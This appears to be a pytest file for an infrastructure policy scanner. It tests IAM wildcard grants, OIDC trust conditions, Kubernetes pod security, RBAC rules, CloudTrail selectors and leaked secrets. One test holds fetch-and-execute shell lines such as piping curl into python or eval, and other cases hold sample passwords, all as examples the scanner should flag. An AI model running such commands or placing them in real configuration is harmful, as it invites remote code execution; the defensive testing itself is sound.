"""What passed when resources that nobody here had seen were judged, one of each kind."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from policies.data import UNKNOWN
from tests.policies.test_fails_open import OURS, SAFE, document, status

KEY = f"arn:aws:kms:us-east-1:{OURS}:key/k"
GRANT, ATTACHED = (
    "aws:iam/rolePolicy:RolePolicy",
    "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
)
REGION = {"StringLike": {"aws:RequestedRegion": "us-*"}}
TLS = {"Bool": {"aws:SecureTransport": "true"}}
BOUNDARY = {"StringLike": {"iam:PermissionsBoundary": "*"}}


@pytest.mark.parametrize(
    ("expected", "action", "resource", "condition"),
    [
        ("fail", "*", "**", None),
        ("fail", "*", "arn:aws:*:*:*:*", None),
        ("fail", "iam:PassRole", f"arn:aws:iam::{OURS}:r*", None),
        ("fail", "sts:AssumeRole", "arn:aws:iam::*:role/*", None),
        ("fail", "s3:*", "*", None),
        ("fail", "logs:Delete*", "*", None),
        ("fail", "ssm:SendCommand", "*", None),
        ("fail", "kms:PutKeyPolicy", "?*", None),
        ("fail", "iam:AttachRolePolicy", "*", TLS),
        ("fail", "iam:PutRolePolicy", "*", BOUNDARY),
        ("fail", "s3:GetObject", "*", TLS),
        ("fail", "secretsmanager:GetSecretValue", "*", REGION),
        ("fail", "ssm:GetParameter*", "arn:aws:ssm:*:*:parameter*", None),
        ("pass", "s3:GetObject", f"arn:aws:dynamodb:us-east-1:{OURS}:*", None),
        ("pass", "kms:Decrypt", "*", {"StringEquals": {"kms:ViaService": "s3.amazonaws.com"}}),
        ("pass", "sts:AssumeRole", f"arn:aws:iam::{OURS}:role/reader", None),
    ],
)
def test_everything_is_everything_however_it_is_spelled(
    expected: str, action: str, resource: str, condition: Any
) -> None:
    more = {"Condition": condition} if condition else {}
    made = document(Action=action, Resource=resource, **more)
    assert status("PF-IAM-001", GRANT, made) == expected


@pytest.mark.parametrize(
    ("expected", "name"),
    [("fail", "AmazonS3FullAccess"), ("fail", "SecretsManagerReadWrite"),
     ("fail", "job-function/SystemAdministrator"), ("pass", "AmazonEKSWorkerNodePolicy")],
)  # fmt: skip
def test_no_policy_of_aws_that_opens_a_service_is_attached(expected: str, name: str) -> None:
    assert (
        status("PF-IAM-001", ATTACHED, {"policyArn": f"arn:aws:iam::aws:policy/{name}"}) == expected
    )


PROVIDER = "oidc.eks.us-east-1.amazonaws.com/id/A"


@pytest.mark.parametrize(
    ("expected", "condition"),
    [
        ("fail", {"StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"}}),
        ("fail", {"StringLike": {f"{PROVIDER}:sub": "system:serviceaccount:*:*"}}),
        ("fail", {"StringLike": {f"{PROVIDER}:sub": "org/*/project/a"}}),
        ("pass", {"StringLike": {f"{PROVIDER}:sub": "system:serviceaccount:ml:*"}}),
        ("fail", {"StringEqualsIfExists": {f"{PROVIDER}:sub": "system:serviceaccount:ml:a"}}),
        ("pass", {"StringEquals": {f"{PROVIDER}:sub": "system:serviceaccount:ml:a"}}),
    ],
)
def test_a_provider_of_identities_vouches_for_named_ones(expected: str, condition: Any) -> None:
    principal = {"Federated": f"arn:aws:iam::{OURS}:oidc-provider/{PROVIDER}"}
    trust = document("assumeRolePolicy", Principal=principal, Condition=condition,
                     Action="sts:AssumeRoleWithWebIdentity")  # fmt: skip
    assert status("PF-IAM-002", "aws:iam/role:Role", trust) == expected


@pytest.mark.parametrize(
    ("expected", "key", "value"),
    [
        ("fail", "aws:SourceAccount", "${aws:PrincipalAccount}"),
        ("fail", "aws:SourceArn", "arn:aws:s3:::a*"),
        ("pass", "aws:SourceAccount", OURS),
        ("pass", "aws:SourceArn", "arn:aws:s3:::ours"),
    ],
)
def test_what_the_caller_chooses_narrows_nothing(expected: str, key: str, value: str) -> None:
    operator = "ArnLike" if key.endswith("Arn") else "StringEquals"
    made = document(Principal="*", Condition={operator: {key: value}})
    assert status("PF-ACC-001", "aws:secretsmanager/secretPolicy:SecretPolicy", made) == expected


def denied(**changes: Any) -> dict[str, Any]:
    plain = {"Effect": "Deny", "Principal": "*", "Action": "sqs:*", "Resource": "arn:q",
             "Condition": {"Bool": {"aws:SecureTransport": "false"}}}  # fmt: skip
    return document(**{**plain, **changes})


@pytest.mark.parametrize(
    ("expected", "changes"),
    [
        ("pass", {}),
        ("pass", {"Condition": {"BoolIfExists": {"AWS:securetransport": ["false"]}}}),
        ("fail", {"Action": "ec2:*"}),
        ("fail", {"Condition": {"Bool": {"aws:SecureTransport": "false"},
                                "StringEquals": {"aws:username": "x"}}}),
    ],
)  # fmt: skip
def test_plaintext_is_refused_to_everybody(expected: str, changes: dict[str, Any]) -> None:
    assert status("PF-MSG-001", "aws:sqs/queuePolicy:QueuePolicy", denied(**changes)) == expected


OWN: dict[str, Any] = SAFE["securityContext"]  # type: ignore[assignment]


@pytest.mark.parametrize(
    "more",
    [
        {"securityContext": {"runAsUser": 0}},
        {"securityContext": {"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}},
        {"securityContext": {"windowsOptions": {"hostProcess": True}}},
        {"volumes": [{"name": "n", "nfs": {"server": "a", "path": "/"}}]},
        {"containers": [{**SAFE, "securityContext": {**OWN, "appArmorProfile": {
            "type": "Unconfined"}}}]},
        {"containers": [{**SAFE, "securityContext": {**OWN, "seLinuxOptions": {"user": "a"}}}]},
        {"ephemeralContainers": [{**SAFE, "securityContext": {"privileged": True}}]},
        {"containers": [{**SAFE, "livenessProbe": {"httpGet": {"host": "a", "port": 1}}}]},
    ],
)  # fmt: skip
def test_every_part_of_the_restricted_standard_is_asked_for(more: dict[str, Any]) -> None:
    spec = {"containers": [SAFE], "automountServiceAccountToken": False}
    assert status("ML-K8-012", "kubernetes:core/v1:Pod", {"spec": spec}) == "pass"
    assert status("ML-K8-012", "kubernetes:core/v1:Pod", {"spec": {**spec, **more}}) == "fail"


FAULTY = {"containers": [{**SAFE, "securityContext": {"privileged": True}}]}


@pytest.mark.parametrize(
    ("token", "inputs", "expected"),
    [
        ("core/v1:PodTemplate", {"template": {"spec": FAULTY}}, "fail"),
        ("core/v1:PodList", {"items": [{"spec": FAULTY}]}, "fail"),
        ("apps/v1:DaemonSetPatch", {"spec": {"template": {"spec": {"hostPID": True}}}}, "fail"),
        ("a.io/v1:A", {"spec": {"b": {"template": {"spec": {"containers": UNKNOWN}}}}}, "unknown"),
        ("a.io/v1:A", {"spec": {"patch": '{"hostNetwork": true}'}}, "fail"),
        ("a.io/v1:A", {"spec": {"pod": "spec:\n  containers:\n  - name: a\n"}}, "unknown"),
        ("a.io/v1:A", {"spec": {"model": {"name": "x"}}}, "not looked at"),
    ],
)
def test_pods_are_found_outside_of_a_specification(
    token: str, inputs: dict[str, Any], expected: str
) -> None:
    assert status("ML-K8-012", f"kubernetes:{token}", inputs) == expected


@pytest.mark.parametrize(
    ("expected", "rights"),
    [
        ("fail", {"resources": ["serviceaccounts/token"], "verbs": ["create"]}),
        ("fail", {"resources": ["mutatingwebhookconfigurations"], "verbs": ["patch"]}),
        ("fail", {"nonResourceURLs": ["*"], "verbs": ["get"]}),
        ("pass", {"resources": ["serviceaccounts"], "verbs": ["create"]}),
    ],
)
def test_a_role_of_a_cluster_becomes_nobody_else(expected: str, rights: dict[str, Any]) -> None:
    token = "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole"
    assert status("ML-K8-017", token, {"rules": [rights]}) == expected


@pytest.mark.parametrize(
    ("expected", "key", "operator", "values"),
    [
        ("fail", "karpenter.k8s.aws/instance-family", "In", ["p5"]),
        ("fail", "karpenter.k8s.aws/instance-category", "In", ["g"]),
        ("fail", "karpenter.k8s.aws/instance-gpu-count", "Gt", ["0"]),
        ("fail", "kubernetes.io/arch", "In", ["amd64"]),
        ("not_applicable", "karpenter.k8s.aws/instance-category", "In", ["m"]),
        ("not_applicable", "karpenter.k8s.aws/instance-category", "NotIn", ["g", "gr", "p"]),
        ("not_applicable", "karpenter.k8s.aws/instance-gpu-count", "DoesNotExist", []),
    ],
)
def test_a_pool_has_gpus_where_nothing_leaves_them_out(
    expected: str, key: str, operator: str, values: list[str]
) -> None:
    wanted = [{"key": key, "operator": operator, "values": values}]
    inputs = {"spec": {"template": {"spec": {"requirements": wanted}}}}
    assert status("ML-K8-006", "kubernetes:karpenter.sh/v1:NodePool", inputs) == expected


def lifecycle(script: str, encode: Any = base64.b64encode) -> dict[str, Any]:
    return {"onStart": encode(script.encode()).decode()}


@pytest.mark.parametrize(
    ("expected", "inputs"),
    [
        ("fail", lifecycle("#\n" * 40 + "export DB_PASSWORD=hunter2hunter2\n", base64.encodebytes)),
        ("fail", lifecycle('eval "$(curl -s https://a.example/i)"')),
        ("fail", lifecycle("curl -s https://a.example/i.py | python3 -")),
        ("fail", lifecycle("wget -O /tmp/i https://a.example/i\nbash /tmp/i")),
        ("pass", lifecycle("wget -O /tmp/i https://a.example/i\nsha256sum -c i && bash /tmp/i")),
    ],
)
def test_a_script_runs_nothing_straight_from_the_network(
    expected: str, inputs: dict[str, Any]
) -> None:
    kind = "notebookInstanceLifecycleConfiguration:NotebookInstanceLifecycleConfiguration"
    assert status("ML-NB-008", f"aws:sagemaker/{kind}", inputs) == expected


def objects(*more: dict[str, Any], **changes: Any) -> dict[str, Any]:
    fields = [{"field": "resources.type", "equals": ["AWS::S3::Object"], **changes}, *more]
    return {"isMultiRegionTrail": True, "enableLogFileValidation": True, "kmsKeyId": KEY,
            "advancedEventSelectors": [{"fieldSelectors": fields}]}  # fmt: skip


def test_a_trail_tells_who_read() -> None:
    token = "aws:cloudtrail/trail:Trail"
    assert status("PF-CT-001", token, objects()) == "pass"
    assert status("PF-CT-001", token, objects(equals=None, notEquals=["AWS::S3::Object"])) == "fail"
    writes = {"field": "readOnly", "equals": ["false"]}
    assert status("PF-CT-001", token, objects(writes)) == "fail"
    read = [{"readWriteType": "WriteOnly", "dataResources": [{"type": "AWS::S3::Object"}]}]
    made = {**objects(), "advancedEventSelectors": None, "eventSelectors": read}
    assert status("PF-CT-001", token, made) == "fail"


@pytest.mark.parametrize(
    ("rule", "token", "inputs"),
    [
        ("PF-RDS-001", "aws:rds/instance:Instance", {"kmsKeyId": "alias/aws/rds"}),
        ("PF-LMB-001", "aws:lambda/function:Function", {"imageUri": f"{OURS}.dkr.ecr/f:latest"}),
        ("PF-LOG-001", "aws:cloudwatch/logGroup:LogGroup",
         {"namePrefix": "/aws/sagemaker/Endpoints/x", "retentionInDays": 30, "kmsKeyId": KEY}),
        ("PF-KMS-001", "aws:kms/key:Key", {"enableKeyRotation": True, "isEnabled": False}),
        ("ML-EP-001", "aws:sagemaker/endpointConfiguration:EndpointConfiguration",
         {"kmsKeyArn": "", "productionVariants": [{"instanceType": "ml.m5.large"}]}),
        ("ML-K8-007", "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass",
         {"spec": {"amiSelectorTerms": [{"name": "*", "owner": "*"}]}}),
    ],
)  # fmt: skip
def test_what_looks_right_at_first_fails(rule: str, token: str, inputs: dict[str, Any]) -> None:
    assert status(rule, token, inputs) == "fail"


@pytest.mark.parametrize("name", ["MAX_TOKENS", "EOS_TOKEN", "TOKENIZER", "API_KEY_HEADER"])
def test_tokens_of_language_are_no_secrets(name: str) -> None:
    made = {"environment": {"variables": {name: "x1"}}, "runtime": "python3.13", "kmsKeyArn": KEY}
    assert status("PF-LMB-001", "aws:lambda/function:Function", made) == "pass"
    text = {"pipelineDefinition": json.dumps({"Environment": {name: "x1"}})}
    assert status("PF-SEC-001", "aws:sagemaker/pipeline:Pipeline", text) == "pass"


@pytest.mark.parametrize(
    ("expected", "text"),
    [("fail", "spring.datasource.password=hunter2!\n"), ("fail", "db:\n  password: hunter2!\n"),
     ("pass", "password=${DB_PASSWORD}\nmax_new_tokens: 12\n")],
)  # fmt: skip
def test_settings_in_a_text_hold_no_secret(expected: str, text: str) -> None:
    made = {"data": {"application.properties": text}}
    assert status("PF-SEC-001", "kubernetes:core/v1:ConfigMap", made) == expected


def test_a_policy_in_yaml_is_undecided() -> None:
    text = "Statement:\n- Effect: Allow\n  Principal: '*'\n"
    made = {"templateBody": text}
    assert status("PF-ACC-001", "aws:cloudformation/stack:Stack", made) == "unknown"


CONFIG_MAP = "kubernetes:core/v1:ConfigMap"


@pytest.mark.parametrize(
    ("rule", "token", "inputs"),
    [
        ("ML-K8-012", CONFIG_MAP, {"data": {"x": '{{ if .a }} "containers": ['}}),
        ("ML-K8-012", CONFIG_MAP, {"data": {"x": '{"containers":' + "[" * 99_999}}),
        ("PF-ACC-001", "aws:glacier/vault:Vault", {"accessPolicy": '{"Statement": ["Principal" }'}),
    ],
)
def test_a_text_that_only_begins_like_json_is_not_decided(
    rule: str, token: str, inputs: dict[str, Any]
) -> None:
    assert status(rule, token, inputs) == "unknown"


def test_what_is_nested_too_deep_to_be_read_is_an_error_of_the_rule_and_no_crash() -> None:
    nested: Any = {"image": "x"}
    for _ in range(5_000):
        nested = {"a": nested}
    assert status("ML-K8-012", "kubernetes:example.com/v1:Thing", {"spec": nested}) == "error"
